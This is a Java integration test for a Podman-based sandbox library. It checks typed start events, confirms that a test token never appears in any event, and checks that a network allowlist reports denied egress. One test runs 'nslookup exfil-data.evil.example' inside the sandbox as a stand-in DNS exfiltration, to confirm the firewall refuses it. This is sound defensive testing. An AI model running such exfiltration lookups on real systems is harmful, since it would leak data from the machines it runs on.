package dev.mino.core.sandbox;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import dev.mino.core.FirewallImage;
import dev.mino.core.MinoEvent;
import dev.mino.core.Sandbox;
import dev.mino.core.SandboxListener;
import dev.mino.core.WarningCodes;
import dev.mino.core.internal.podman.EngineAddress;
import dev.mino.core.internal.podman.PodmanClient;
import dev.mino.core.testing.DelayingEngineProxy;
import dev.mino.core.testing.FixedCredential;
import dev.mino.core.testing.Prerequisites;
import dev.mino.core.testing.RequiresPodman;
import dev.mino.core.testing.SandboxFolders;
import dev.mino.core.testing.TestFirewallImage;
import dev.mino.core.testing.TestPodman;
import dev.mino.network.EgressEvent;
import dev.mino.network.NetworkPolicy;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/**
 * What a listener hears of a real start, as typed events: the steps in order with their
 * durations, the engine's coded warning, the credentials issued (never their values) and the
 * sandbox's exit with its code.
 */
@RequiresPodman
@Timeout(180)
class SandboxEventsIT extends SandboxFolders {
    private static final Instant EXPIRY = Instant.parse("2030-01-01T00:00:00Z");

    @Test
    void aStartIsToldAsTypedEventsInOrderAndNoEventHoldsTheToken() throws Exception {
        try (PodmanClient podman = TestPodman.newClient()) {
            JsonNode host = podman.info().path("host");
            Prerequisites.require("v1".equals(host.path("cgroupVersion").asText())
                && host.path("security").path("rootless").asBoolean(), "a rootless engine on cgroup v1");
        }
        Prerequisites.require(TestPodman.address() instanceof EngineAddress.Unix, "a test Podman on a Unix socket");
        String token = "ghp_" + UUID.randomUUID().toString().replace("-", "");
        List<MinoEvent> events = new CopyOnWriteArrayList<>();
        // Through an address of its own: the limits warning comes once per JVM and engine address,
        // and another test of this JVM may have heard it on the plain address already.
        try (DelayingEngineProxy proxy = new DelayingEngineProxy(state.resolve("proxy.sock"),
            ((EngineAddress.Unix) TestPodman.address()).socket(), "\u0000", Duration.ZERO);
             Sandbox sb = Sandbox.builder().engine(proxy.uri()).image(TestPodman.BUSYBOX_IMAGE).project(project)
                 .stateDirectory(state).sshAgent(false).listener(SandboxListener.of(events::add))
                 .credentials(new FixedCredential("github", "GITHUB_TOKEN", token, EXPIRY)).command("sh", "-c", "test \"$GITHUB_TOKEN\" = " + token
                     + " && exit 7").start()) {
            // The control: the sandbox got the very token no event may hold (exit 7, not 1).
            assertEquals(7, sb.awaitExit(Duration.ofSeconds(60)));
            MinoEvent.SandboxExited exited = awaitExited(events);
            assertEquals(sb.sessionName(), exited.session());
            assertEquals(7, exited.exit().getAsInt());
        }

        List<MinoEvent.ProgressStep> steps = events.stream().filter(MinoEvent.ProgressStep.class::isInstance)
            .map(MinoEvent.ProgressStep.class::cast).toList();
        List<String> told = steps.stream().map(s -> s.step() + " " + s.phase()).toList();
        assertEquals(List.of("CREATE_CONTAINER STARTED", "CREATE_CONTAINER FINISHED", "START_CONTAINER STARTED",
            "START_CONTAINER FINISHED"), told, events.toString());
        steps.forEach(s -> assertFalse(s.elapsed().isNegative(), s.toString()));
        assertTrue(steps.stream().map(MinoEvent.ProgressStep::elapsed).reduce(Duration.ZERO, Duration::plus)
            .compareTo(Duration.ZERO) > 0, "the steps took time, and it was measured: " + steps);

        List<MinoEvent.Warning> warnings = events.stream().filter(MinoEvent.Warning.class::isInstance)
            .map(MinoEvent.Warning.class::cast).toList();
        assertTrue(warnings.stream().anyMatch(w -> WarningCodes.LIMITS_NOT_ENFORCED.equals(w.code())),
            warnings.toString());

        List<MinoEvent.CredentialsIssued> credentials = events.stream()
            .filter(MinoEvent.CredentialsIssued.class::isInstance).map(MinoEvent.CredentialsIssued.class::cast)
            .toList();
        assertEquals(List.of(new MinoEvent.CredentialsIssued("github", List.of("GITHUB_TOKEN"), EXPIRY)), credentials);

        // The order of a start: credentials before the container, the exit last.
        List<Class<?>> order = new ArrayList<>();
        events.forEach(e -> order.add(e.getClass()));
        assertTrue(order.indexOf(MinoEvent.CredentialsIssued.class) < order.indexOf(MinoEvent.ProgressStep.class));
        assertEquals(MinoEvent.SandboxExited.class, order.get(order.size() - 1), events.toString());
        assertEquals(1, order.stream().filter(MinoEvent.SandboxExited.class::equals).count(), "told once");
        for (MinoEvent event : events) {
            assertFalse(event.toString().contains(token), "an event holds the token: " + event);
        }
    }

    @Test
    void anAllowlistedStartIsToldWithItsFirewallStepAndEachDenialAsATypedEvent() throws Exception {
        FirewallImage.Pinned pinned = TestFirewallImage.pin(state);
        List<MinoEvent> events = new CopyOnWriteArrayList<>();
        try (Sandbox sb = Sandbox.builder().engine(TestPodman.address().uri()).image(TestPodman.BUSYBOX_IMAGE)
            .project(project).stateDirectory(state).sshAgent(false).listener(SandboxListener.of(events::add))
            .network(NetworkPolicy.allow("example.com:443")).command("sleep", "60").start()) {
            // The hostile command: a lookup outside the allowlist, as an exfiltration through DNS would.
            sb.exec("nslookup", "exfil-data.evil.example");
            long deadline = System.nanoTime() + Duration.ofSeconds(15).toNanos();
            while (events.stream().noneMatch(e -> e instanceof MinoEvent.Egress egress && egress.denied())
                && System.nanoTime() < deadline) {
                Thread.sleep(50);
            }
            MinoEvent.Egress denial = events.stream().filter(MinoEvent.Egress.class::isInstance)
                .map(MinoEvent.Egress.class::cast).filter(MinoEvent.Egress::denied).findFirst()
                .orElseThrow(() -> new AssertionError("no denial told: " + events));
            assertEquals(sb.sessionName(), denial.session());
            assertEquals("exfil-data.evil.example", ((EgressEvent.NameRefused) denial.event()).name());
            // The control: the same event is in the handle's own list.
            assertTrue(sb.egressEvents().contains(denial.event()), sb.egressEvents().toString());
        } finally {
            try (PodmanClient podman = TestPodman.newClient()) {
                TestFirewallImage.remove(podman, pinned);
            }
        }
        List<String> steps = events.stream().filter(MinoEvent.ProgressStep.class::isInstance)
            .map(MinoEvent.ProgressStep.class::cast).map(s -> s.step() + " " + s.phase()).toList();
        assertEquals(List.of("FIREWALL STARTED", "FIREWALL FINISHED", "CREATE_CONTAINER STARTED",
            "CREATE_CONTAINER FINISHED", "START_CONTAINER STARTED", "START_CONTAINER FINISHED"), steps);
    }

    /** The exit is told by the thread that saw it, which may come a moment after awaitExit returned. */
    private static MinoEvent.SandboxExited awaitExited(List<MinoEvent> events) throws InterruptedException {
        long deadline = System.nanoTime() + Duration.ofSeconds(10).toNanos();
        while (System.nanoTime() < deadline) {
            for (MinoEvent event : events) {
                if (event instanceof MinoEvent.SandboxExited exited) {
                    return exited;
                }
            }
            Thread.sleep(20);
        }
        throw new AssertionError("no SandboxExited event: " + events);
    }
}
